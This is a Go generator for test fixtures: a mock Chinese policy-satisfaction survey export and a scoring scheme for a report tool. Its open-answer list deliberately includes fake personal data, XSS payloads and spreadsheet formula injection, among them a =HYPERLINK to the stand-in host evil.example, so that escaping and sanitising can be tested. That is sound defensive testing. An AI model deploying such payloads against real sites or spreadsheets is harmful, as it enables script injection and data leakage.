// Command gen writes the report tests' fixtures: survey.csv (a 问卷星 按选项文本 export with personal data
// and hostile text in it) and scheme.json (the evaluation scheme that maps it). Run from reports/:
//
//	go run ./testdata/gen
package main

import (
	"encoding/csv"
	"fmt"
	"log"
	"math/rand"
	"os"
	"strings"
	"time"
)

var likert = []string{"非常满意", "满意", "一般", "不满意", "非常不满意"}

var problems = []string{"办事材料多", "审批时间长", "线上系统不好用", "政策宣传不到位", "窗口排队久"}
var directions = []string{"精简申报材料", "推行一网通办", "加强政策解读", "延长窗口服务时间"}

var names = []string{"王建国", "李秀英", "欧阳娜娜", "张伟", "刘洋", "陈静", "赵磊", "孙丽"}

// openAnswers mix ordinary comments, personal data and hostile text.
var openAnswers = []string{
	"建议进一步压缩审批时限",
	"建议进一步压缩审批时限",
	"线上办理经常卡顿，希望优化系统",
	"无",
	"我是王建国，电话13812345678，希望有人联系我",
	"身份证11010519491231002X办理时被要求重复提交",
	"有问题请发邮件到zhang.san@example.com",
	"</script><script>alert(1)</script>",
	"__f__function(){alert(1)}__f__",
	`"'><svg onload=alert(1)>`,
	"javascript:alert(1)",
	`=HYPERLINK("http://evil.example/?x","点我")`,
	"＝1+1",
	"",
}

func main() {
	rng := rand.New(rand.NewSource(5))
	f, err := os.Create("testdata/survey.csv")
	if err != nil {
		log.Fatal(err)
	}
	w := csv.NewWriter(f)
	header := []string{"序号", "提交答卷时间", "所用时间", "来源", "来自IP", "1、您的姓名", "2、您的手机号码",
		"3、您对办事效率是否满意", "4、您对办事流程是否满意", "5、您对政策细则是否满意", "6、您对标准公开是否满意",
		"7、您对政策效果是否满意", "8、您对获得感是否满意", "9、您认为存在哪些问题", "10、您希望在哪些方面改进",
		"11、总体而言您是否满意", "12、您对本政策还有什么意见建议"}
	w.Write(header)
	start := time.Date(2026, 10, 8, 9, 0, 0, 0, time.UTC)
	for i := 1; i <= 60; i++ {
		row := []string{fmt.Sprint(i), start.Add(time.Duration(i) * 37 * time.Minute).Format("2006/1/2 15:04:05"),
			fmt.Sprintf("%d秒", 150+rng.Intn(300)), "手机提交", fmt.Sprintf("61.135.%d.%d(北京-北京)", rng.Intn(255), rng.Intn(255)),
			names[i%len(names)], fmt.Sprintf("13%d%08d", 5+rng.Intn(5), rng.Intn(1e8))}
		base := rng.Intn(3)
		for q := 0; q < 6; q++ {
			row = append(row, likert[min(4, base+rng.Intn(2))])
		}
		row = append(row, pick(rng, problems), pick(rng, directions), likert[min(4, base+rng.Intn(2))])
		open := openAnswers[i%len(openAnswers)]
		if i == 7 {
			open = "=" + strings.Repeat("长", 39998) + "尾" // a 40,000-character answer
		}
		row = append(row, open)
		w.Write(row)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		log.Fatal(err)
	}
	f.Close()
	scheme := `{
  "name": "测试评价方案",
  "dimensions": {
    "process":   {"weight": 1, "indicators": [{"name": "办事效率", "questions": ["Q3"]}, {"name": "办事流程", "questions": ["Q4"]}]},
    "standards": {"weight": 1, "indicators": [{"name": "细则清晰", "questions": ["Q5"]}, {"name": "标准公开", "questions": ["Q6"]}]},
    "results":   {"weight": 1, "indicators": [{"name": "政策效果", "questions": ["Q7"]}, {"name": "获得感", "questions": ["Q8"]}]}
  },
  "problems": ["Q9"], "directions": ["Q10"], "overall": "Q11",
  "screening": {"speeders": 0.3, "straightline_min_items": 0, "duplicates": true}
}
`
	if err := os.WriteFile("testdata/scheme.json", []byte(scheme), 0o644); err != nil {
		log.Fatal(err)
	}
}

func pick(rng *rand.Rand, opts []string) string {
	var out []string
	for _, o := range opts {
		if rng.Intn(3) == 0 {
			out = append(out, o)
		}
	}
	if len(out) == 0 {
		out = append(out, opts[rng.Intn(len(opts))])
	}
	return strings.Join(out, "┋")
}
